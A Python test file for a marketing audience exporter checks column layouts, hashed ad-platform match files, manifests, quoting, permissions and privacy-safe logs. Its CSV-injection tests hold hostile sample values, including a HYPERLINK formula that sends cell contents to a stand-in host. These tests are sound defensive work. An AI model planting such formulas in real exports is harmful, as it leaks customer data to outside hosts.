"""What stands in the files of each channel and platform, in every format."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from exports.conftest import ANN, BOB, CLEO
from exports.house import Person, Shop, manifest_of, member_key, rows_of, sha256, write_house

TEXT_KEYS = ("member_key", "customer_id")


def _folder(outcome):
    return Path(outcome["folder"])


def _adds(outcome, format="csv"):
    return rows_of(_folder(outcome) / f"adds.{format}")


def _keys(audience_id, person):
    return {"member_key": member_key(audience_id, person.customer_id), "customer_id": person.customer_id}


def _in_order(rows):
    return sorted(rows, key=lambda row: row["member_key"])


FORMATS = ("csv", "jsonl", "parquet")


@pytest.mark.parametrize("format", FORMATS)
def test_a_list_for_email_has_the_address_the_name_and_the_keys(export, format):
    outcome = export("--audience", "AU_News", "--format", format)["AU_News email"]
    expected = [
        {
            **_keys("AU_News", person),
            "email": person.email,
            "first_name": person.first_name,
            "last_name": person.last_name,
            "country": person.country,
            "language": person.language,
        }
        for person in (ANN, BOB)
    ]
    assert _adds(outcome, format) == _in_order(expected)
    assert rows_of(_folder(outcome) / f"removes.{format}") == []


@pytest.mark.parametrize("format", FORMATS)
def test_a_list_for_sms_has_the_number_as_it_is(export, format):
    rows = _adds(export("--audience", "AU_Text", "--format", format)["AU_Text sms"], format)
    assert {row["customer_id"]: row["phone"] for row in rows} == {"shop:1": ANN.phone, "shop:3": CLEO.phone}
    assert [*rows[0]] == [*TEXT_KEYS, "phone", "first_name", "last_name", "country", "language"]


@pytest.mark.parametrize("format", FORMATS)
def test_a_list_for_push_has_the_keys_alone(export, format):
    rows = _adds(export("--audience", "AU_Push", "--format", format)["AU_Push push"], format)
    assert {row["customer_id"] for row in rows} == {f"shop:{number}" for number in range(1, 6)}
    assert {tuple(row) for row in rows} == {TEXT_KEYS}


@pytest.mark.parametrize("format", FORMATS)
def test_a_match_file_for_meta_holds_hashes_and_no_key_of_ours(export, format):
    rows = _adds(export("--audience", "AU_Ads", "--layout", "meta", "--format", format)["AU_Ads meta"], format)
    assert len(rows) == 3
    assert {
        "email": sha256("ann.lee+news@gmail.com"),
        "phone": sha256("16505551212"),
        "fn": sha256("ann"),
        "ln": sha256("olee"),
        "ct": sha256("newyork"),
        "country": sha256("us"),
    } in rows
    nothing = dict.fromkeys(("email", "fn", "ct", "country"))
    assert nothing | {"phone": sha256("4915112345678"), "ln": sha256("élan")} in rows


@pytest.mark.parametrize("format", FORMATS)
def test_a_match_file_for_google_holds_address_and_number_alone(export, format):
    rows = _adds(export("--audience", "AU_Ads", "--layout", "google", "--format", format)["AU_Ads google"], format)
    assert sorted(rows, key=str) == sorted(
        [
            {"Email": sha256("annlee@gmail.com"), "Phone": sha256("+16505551212")},
            {"Email": sha256("bob@example.com"), "Phone": None},
            {"Email": None, "Phone": sha256("+4915112345678")},
        ],
        key=str,
    )


def test_an_audience_for_ads_goes_to_both_platforms_and_others_to_one(export):
    assert [*export("--all")] == [
        "AU_Ads meta",
        "AU_Ads google",
        "AU_News email",
        "AU_Not_Them meta",
        "AU_Not_Them google",
        "AU_Push push",
        "AU_Text sms",
    ]


def test_all_of_one_layout(export):
    assert [*export("--all", "--layout", "google")] == ["AU_Ads google", "AU_Not_Them google"]
    assert [*export("--all", "--layout", "list")] == ["AU_News email", "AU_Push push", "AU_Text sms"]


def test_the_manifest_says_what_the_files_are(export):
    outcome = export("--audience", "AU_Not_Them", "--layout", "meta")["AU_Not_Them meta"]
    folder = _folder(outcome)
    manifest = manifest_of(folder)
    assert manifest["export_id"] == folder.name == outcome["export_id"]
    files = {file["name"]: file for file in manifest.pop("files")}
    assert {path.name for path in folder.iterdir()} == {*files, "manifest.json"}
    for name, file in files.items():
        content = (folder / name).read_bytes()
        assert (file["bytes"], file["sha256"]) == (len(content), sha256(content.decode()))
        assert file["rows"] == len(rows_of(folder / name))
    assert manifest == {
        "export_id": folder.name,
        "audience_id": "AU_Not_Them",
        "name": "Existing customers",
        "channel": "ads",
        "kind": "exclusion",
        "definition_version": 1,
        "layout": "meta",
        "format": "csv",
        "as_of_date": "2025-06-30",
        "published_version": "20250701T031500-000000Z",
        "since": None,
        "counts": {
            "members": 5,
            "exported": 3,
            "added": 3,
            "changed": 0,
            "removed": 0,
            "left_out": {"no_email_or_phone": 1, "not_eligible": 1},
        },
    }


def test_text_is_quoted_where_it_must_be_and_every_file_ends_with_a_line(project, export):
    odd = Person("shop:9", "odd@example.com", None, 'A "B", C', "two\r\nlines", "Ünı", None, None, "日本")
    write_house(project, Shop([odd]))
    folder = _folder(export("--audience", "AU_News")["AU_News email"])
    key = member_key("AU_News", "shop:9")
    assert (folder / "adds.csv").read_bytes().decode("utf-8") == (
        "member_key,customer_id,email,first_name,last_name,country,language\n"
        f'{key},shop:9,odd@example.com,"A ""B"", C","two\r\nlines",Ünı,日本\n'
    )
    assert all(path.read_bytes().endswith(b"\n") for path in folder.iterdir())


FORMULA = '=HYPERLINK("http://x.example"&A1)'
ATTACKER = Person("=1+1:9", "x@example.com", "+49301234", FORMULA, "@SUM(A1)", "-2", "DE", "+1", "\t=1")


def test_no_value_of_a_list_is_a_formula(project, export):
    write_house(project, Shop([ATTACKER]))
    for audience in ("AU_News email", "AU_Text sms", "AU_Push push"):
        row = _adds(export("--audience", audience.split()[0])[audience])[0]
        phone = row.pop("phone", None)
        assert phone in (None, "+49301234"), "a number is digits alone behind its plus sign"
        assert not [value for value in row.values() if value and value.strip()[0] in "=+-@\t\r"]
        assert row["customer_id"] == "'=1+1:9"
    rows = _adds(export("--audience", "AU_News", "--since", "none", "--format", "jsonl")["AU_News email"], "jsonl")
    assert (rows[0]["first_name"], rows[0]["customer_id"]) == (FORMULA, "=1+1:9"), "no spreadsheet opens it"


def test_keys_of_those_who_left_are_no_formula_either(project, export):
    write_house(project, Shop([ATTACKER, BOB]))
    export("--audience", "AU_News")
    write_house(project, Shop([BOB]))
    outcome = export("--audience", "AU_News")["AU_News email"]
    assert [row["customer_id"] for row in rows_of(_folder(outcome) / "removes.csv")] == ["'=1+1:9"]


@pytest.mark.parametrize("email", ["=cmd@example.com", "+x@example.com", "-x@example.com"])
def test_an_address_that_is_a_formula_is_left_out_of_csv(project, export, email):
    """Behind an apostrophe it would be somebody else's."""
    write_house(project, Shop([Person("shop:9", email, "+49301234")]))
    outcome = export("--audience", "AU_News")["AU_News email"]
    assert (outcome["counts"]["exported"], outcome["counts"]["left_out"]) == (0, {"unsafe_email": 1})
    assert export("--audience", "AU_Text")["AU_Text sms"]["counts"]["exported"] == 1
    outcome = export("--audience", "AU_News", "--format", "jsonl")["AU_News email"]
    assert [row["email"] for row in _adds(outcome, "jsonl")] == [email]


def test_a_broken_number_does_not_go_out(project, export):
    write_house(project, Shop([Person("shop:9", None, "+1=HYPERLINK()"), Person("shop:8", None, "030 123")]))
    assert export("--audience", "AU_Text")["AU_Text sms"]["counts"]["left_out"] == {"no_phone": 2}


def test_nobody_else_may_look_into_a_folder_of_exports(exports, export):
    """It stands beside what BI reads; who made it may open it to others."""
    export("--audience", "AU_News")
    assert stat.S_IMODE(exports.stat().st_mode) == 0o700
    exports.chmod(0o750)
    export("--audience", "AU_Text")
    assert stat.S_IMODE(exports.stat().st_mode) == 0o750


def test_the_log_says_what_was_handed_over_and_no_address(project, export):
    export("--all")
    export("--all")
    lines = [json.loads(line) for line in (project / "logs" / "quintile.jsonl").read_text().splitlines()]
    exported = [line for line in lines if line["event"] == "exported"]
    assert [line["audience_id"] for line in exported].count("AU_Ads") == 2
    assert len(exported) == 7, "what was there already is not handed over again"
    assert "ann.lee" not in str(lines) and "shop:1" not in str(lines)
